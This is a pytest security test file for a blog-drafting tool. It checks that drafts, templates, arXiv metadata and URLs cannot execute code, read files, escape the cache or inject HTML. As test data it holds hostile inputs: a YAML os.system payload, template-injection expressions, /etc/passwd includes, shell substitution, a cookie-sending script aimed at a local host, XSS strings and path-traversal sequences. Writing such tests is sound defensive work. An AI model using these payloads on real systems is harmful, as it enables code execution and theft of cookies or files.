"""Nothing in a draft, a template, arXiv's answer or a URL gets to run code, read or write
files it should not, or inject markup into a report.

Covered elsewhere, not repeated: tests/test_stub.py (``{title.__class__}`` in a template is
an unknown placeholder), tests/net/test_linkcheck.py (``file://``, ``mailto:`` and other
schemes are never requested; a redirect to ``file://``, ``ftp://`` or ``javascript:`` is not
followed), tests/net/test_cache.py (keys with ``..``, slashes or NUL become hashed file
names inside the cache directory), tests/test_report_html.py (a ``<script>`` heading stays
text in the HTML report).
"""

from __future__ import annotations

import os
import subprocess
import tempfile
from datetime import date
from html.parser import HTMLParser
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from blogtool.arxiv_id import parse_arxiv_id
from blogtool.cli import main
from blogtool.net.arxiv import Paper
from blogtool.net.cache import DATABASE_NAME, DiskCache
from blogtool.safetext import markdown_inline
from blogtool.stub import (
    PaperTemplate,
    StubError,
    StubSettings,
    TemplateError,
    load_template,
    render_section,
)

# Each would run a command, read a file or evaluate an expression if anything executed it.
INJECTIONS = """\
---
title: !!python/object/apply:os.system ["touch {sentinel}"]
---

# {{{{ __import__('os').system('touch {sentinel}') }}}}

{{% include '/etc/passwd' %}} ${{{{7*7}}}} $(touch {sentinel}) `touch {sentinel}`

{{__import__('os').system('touch {sentinel}')}} {{title.__class__.__mro__}} {{0.__class__}}

<!--#exec cmd="touch {sentinel}" -->

<script>fetch('http://127.0.0.1:9/?'+document.cookie)</script>

[click](javascript:alert('{sentinel}')) ![x](file:///etc/passwd)

$$
\\input{{/etc/passwd}} \\write18{{touch {sentinel}}}
$$
"""


def run(*args: str) -> Result:
    return CliRunner().invoke(main, list(args))


@pytest.fixture
def no_processes(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Record (and refuse) every attempt to start a process or a shell."""
    attempts: list[str] = []

    def refuse(name: str):  # noqa: ANN202
        def refused(*args: object, **kwargs: object) -> None:
            attempts.append(f"{name}{args!r}")
            raise PermissionError(f"test forbids {name}")

        return refused

    monkeypatch.setattr(subprocess.Popen, "__init__", refuse("Popen"))
    for name in ("system", "popen", "execv", "execve", "execvp", "spawnv", "posix_spawn"):
        if hasattr(os, name):
            monkeypatch.setattr(os, name, refuse(name))
    return attempts


@pytest.mark.parametrize(
    "command",
    [
        ["lint"],
        ["lint", "--format", "json"],
        ["lint", "--format", "sarif"],
        ["lint", "--format", "github"],
        ["lint", "--format", "junit"],
        ["report"],
        ["report", "--format", "markdown"],
        ["report", "--format", "html"],
        ["report", "--format", "json"],
    ],
    ids=" ".join,
)
def test_nothing_in_a_draft_is_executed(
    tmp_path: Path, no_processes: list[str], command: list[str]
) -> None:
    sentinel = tmp_path / "PWNED"
    draft = tmp_path / "draft.md"
    draft.write_text(INJECTIONS.format(sentinel=sentinel), encoding="utf-8")
    result = run(*command, str(draft))
    assert result.exit_code in (0, 1), result.output
    assert no_processes == []
    assert not sentinel.exists()
    assert "root:x:0:0" not in result.output  # /etc/passwd was never read into the output


# --- stub templates and arXiv's answers ---------------------------------------------------------


@pytest.mark.parametrize(
    "placeholder",
    [
        "{title.__class__.__init__.__globals__}",
        "{title.__class__.__mro__[1].__subclasses__}",
        "{title[0]}",
        "{abs_url.__len__}",
        "{title:{abs_url}}",
        "{title!r:>{year}}",
        "{0.__class__}",
    ],
)
def test_a_template_cannot_walk_attributes_or_index(tmp_path: Path, placeholder: str) -> None:
    template = tmp_path / "paper.md"
    template.write_text(f"### {{title}}\n\n[paper]({{abs_url}}) {placeholder}\n", "utf-8")
    with pytest.raises(TemplateError) as caught:
        load_template(template)
    message = str(caught.value)
    assert message.startswith(f"{template}:3: ")
    assert "<class" not in message and "<built-in" not in message and "<function" not in message


@pytest.mark.parametrize("heading", ["{year.__class__}", "{year[0]}", "{year:{year}}", "{0}"])
def test_a_year_heading_format_cannot_walk_attributes(heading: str) -> None:
    with pytest.raises(StubError, match="year_heading_format"):
        StubSettings(year_heading_format=heading)


@settings(max_examples=100, derandomize=True, database=None, deadline=None)
@given(st.text(alphabet="{}!:.[]_0aby ", max_size=30))
def test_metadata_from_arxiv_is_inserted_as_text(title: str) -> None:
    """Braces in a title or an author name are the paper's text, never a placeholder."""
    arxiv_id = parse_arxiv_id("2305.18290")
    when = date(2023, 5, 29)
    paper = Paper("2305.18290", 1, title or "x", (title or "x",), when, when, title, None, "", "")
    template = PaperTemplate("### {title}\n\n[paper]({abs_url}) by {authors}: {abstract}\n", "t")
    section = render_section(template, paper, arxiv_id)
    # Metadata is plain one-line text from the moment a Paper is built, and escaped to read
    # as itself in Markdown (tests/robustness/test_hostile_metadata.py); braces stay as they are.
    authors = ", ".join(markdown_inline(name) for name in paper.authors)
    abstract = markdown_inline(title)
    assert section.endswith(f"[paper](https://arxiv.org/abs/2305.18290) by {authors}: {abstract}\n")
    assert section.count("{") == 2 * title.count("{") + (title or "x").count("{")


# --- the link checker stays on http(s) and inside its cache -------------------------------------


def test_lint_check_links_follows_no_redirect_to_a_local_file(
    tmp_path: Path,
    httpserver,
    monkeypatch: pytest.MonkeyPatch,  # noqa: ANN001
) -> None:
    monkeypatch.setenv("BLOGTOOL_CACHE_DIR", str(tmp_path / "cache"))
    httpserver.expect_request("/sneaky").respond_with_data(
        "", status=302, headers={"Location": "file:///etc/passwd"}
    )
    (tmp_path / "blogtool.toml").write_text(
        "[links]\nmin_host_interval = 0\nmax_retries = 0\ntimeout = 5\nallow_private = true\n",
        encoding="utf-8",
    )
    draft = tmp_path / "draft.md"
    draft.write_text(
        f"# Links\n\n[a]({httpserver.url_for('/sneaky')}) and [b](file:///etc/passwd).\n",
        encoding="utf-8",
    )
    result = run("lint", "--check-links", "--select", "BT7", "--format", "json", str(draft))
    assert "root:x:0:0" not in result.output
    assert len(httpserver.log) == 1  # the redirect was not followed anywhere
    assert "unsupported redirect" in result.output


@settings(
    max_examples=150,
    derandomize=True,
    database=None,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)
@given(
    st.one_of(
        st.text(max_size=200),
        st.lists(st.sampled_from(["..", "/", "\\", "%2e%2e%2f", "\x00", "~", "C:", "a"])).map(
            "".join
        ),
    )
)
def test_no_url_can_place_a_cache_file_outside_the_cache(url: str) -> None:
    with tempfile.TemporaryDirectory() as outside:
        root = Path(outside) / "cache"
        cache = DiskCache(root)
        cache.put("links", url, {"status": 200})
        written = [p for p in Path(outside).rglob("*") if p.is_file()]
        # the database and, while it is open, SQLite's log beside it
        names = {p.name for p in written}
        assert DATABASE_NAME in names
        assert names <= {DATABASE_NAME, f"{DATABASE_NAME}-wal", f"{DATABASE_NAME}-shm"}
        assert all(p.resolve().is_relative_to(root.resolve()) for p in written)
        assert cache.get("links", url).value == {"status": 200}


# --- the HTML report shows what a draft holds as text ---------------------------------------------


class _Markup(HTMLParser):
    """Every tag and attribute of a page, and every URL it points to."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.urls: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attrs:
            self.attributes.add(name)
            if name in ("href", "src", "action", "xlink:href") and value is not None:
                self.urls.append(value)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _page(tmp_path: Path, name: str, text: str) -> _Markup:
    tmp_path.mkdir(exist_ok=True)
    draft = tmp_path / name
    draft.write_text(text, encoding="utf-8")
    out = tmp_path / "report.html"
    result = run("report", "--format", "html", "-o", str(out), str(draft))
    assert result.exit_code in (0, 1), result.output
    markup = _Markup()
    markup.feed(out.read_text(encoding="utf-8"))
    return markup


HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "&lt;b&gt; &amp;",
    "]]></style><iframe src=//127.0.0.1:9>",
    "' onmouseover='alert(1)",
]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_html_report_keeps_what_a_draft_holds_as_text(tmp_path: Path, hostile: str) -> None:
    clean = _page(tmp_path / "clean", "draft.md", "# Post\n\n## 2023\n\n### A paper\n\nTODO\n")
    name = "draft " + hostile.replace("/", "_") + ".md"
    text = f"# Post {hostile}\n\n## 2023 {hostile}\n\n### {hostile}\n\nTODO {hostile}\n"
    page = _page(tmp_path, name, text)
    assert page.tags <= clean.tags
    assert page.attributes <= clean.attributes
    assert not any(url.lower().lstrip().startswith("javascript:") for url in page.urls)
    assert any(hostile in chunk for chunk in page.text)  # shown, as text
